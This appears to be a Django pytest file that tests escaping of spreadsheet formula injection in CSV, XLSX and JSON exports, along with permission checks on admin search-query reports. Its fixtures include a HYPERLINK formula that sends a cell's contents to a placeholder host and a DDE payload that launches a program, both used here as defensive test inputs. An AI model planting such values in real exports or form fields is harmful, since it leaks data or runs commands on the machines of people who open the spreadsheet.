"""Issue 17, items 1, 2 and 7: spreadsheet exports never carry a live formula, and the
search-query reports are read only by those the view lets in."""

import csv
import io
import json

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from openpyxl import load_workbook

from core.exports import spreadsheet_safe
from innovations.models import Agency
from search.models import SearchQueryDay
from tests.innovations.factories import InnovationPageFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x/?"&A1,"klik")'


def streamed(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")


def xlsx_values(content):
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook.worksheets[0]
    return [cell.value for row in sheet.iter_rows() for cell in row], sheet


@pytest.mark.parametrize("value", [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_leaders_are_escaped(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Sipakatau", "", 12, -5, None, "a=b"])
def test_other_values_pass(value):
    assert spreadsheet_safe(value) == value


@pytest.fixture
def formula_innovation(catalogue):
    return InnovationPageFactory(parent=catalogue, title=FORMULA, tagline="@cmd|' /C calc'!A0")


def test_innovation_csv_escapes_formulas(client, formula_innovation):
    rows = list(csv.DictReader(io.StringIO(streamed(client.get("/inovasi/ekspor.csv")))))
    assert rows[0]["title"] == "'" + FORMULA
    assert rows[0]["tagline"].startswith("'@")
    assert rows[0]["id"] == str(formula_innovation.pk)


def test_innovation_xlsx_has_no_formula_cell(client, formula_innovation):
    response = client.get("/inovasi/ekspor.xlsx")
    values, sheet = xlsx_values(b"".join(response.streaming_content))
    assert "'" + FORMULA in values
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_innovation_json_stays_data(client, formula_innovation):
    data = json.loads(streamed(client.get("/inovasi/ekspor.json")))
    assert data["results"][0]["title"] == FORMULA


def test_open_data_downloads_escape_formulas(client, formula_innovation):
    Agency.objects.filter(pk=formula_innovation.agency_id).update(name="=1+1", acronym="-X")
    text = client.get("/data-terbuka/instansi.csv").content.decode().lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {row["name"] for row in rows} >= {"'=1+1"}
    values, sheet = xlsx_values(client.get("/data-terbuka/instansi.xlsx").content)
    assert "'=1+1" in values and "'-X" in values
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    data = json.loads(client.get("/data-terbuka/instansi.json").content)
    assert "=1+1" in {row["name"] for row in data["results"]}


@pytest.fixture
def superuser_client(client):
    user = get_user_model().objects.create_superuser("admin", "admin@example.com", "secret")
    client.force_login(user)
    return client


def test_search_report_csv_escapes_visitor_queries(superuser_client):
    SearchQueryDay.record(FORMULA, 0)
    response = superuser_client.get("/admin/laporan/pencarian/teratas/", {"export": "csv"})
    text = streamed(response)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0].startswith("'=hyperlink(")


def test_search_report_xlsx_escapes_visitor_queries(superuser_client):
    SearchQueryDay.record("@SUM(1)", 0)
    response = superuser_client.get("/admin/laporan/pencarian/tanpa-hasil/", {"export": "xlsx"})
    values, sheet = xlsx_values(b"".join(response.streaming_content))
    assert "'@sum(1)" in values
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def editor(client, *permissions):
    user = get_user_model().objects.create_user("editor", "editor@example.com", "secret")
    group = Group.objects.create(name="Editor uji")
    group.permissions.add(Permission.objects.get(codename="access_admin"))
    for codename in permissions:
        group.permissions.add(Permission.objects.get(codename=codename))
    user.groups.add(group)
    client.force_login(user)
    return client


@pytest.mark.parametrize(
    "url",
    [
        "/admin/laporan/pencarian/teratas/",
        "/admin/laporan/pencarian/teratas/?export=csv",
        "/admin/laporan/pencarian/teratas/hasil/",
        "/admin/laporan/pencarian/tanpa-hasil/?export=xlsx",
        "/admin/laporan/pencarian/tanpa-hasil/hasil/",
    ],
)
def test_editor_cannot_open_search_reports_by_url(client, url):
    SearchQueryDay.record("puskesmas", 0)
    response = editor(client).get(url)
    assert response.status_code in {302, 403}
    assert b"puskesmas" not in (response.content if not response.streaming else b"")
    if response.status_code == 302:
        assert "/laporan/pencarian/" not in response["Location"]


def test_search_report_menu_follows_the_view_permission(client):
    SearchQueryDay.record("puskesmas", 0)
    editor_client = editor(client, "view_searchqueryday")
    assert editor_client.get("/admin/laporan/pencarian/teratas/").status_code == 200
    assert b"/admin/laporan/pencarian/teratas/" in editor_client.get("/admin/").content
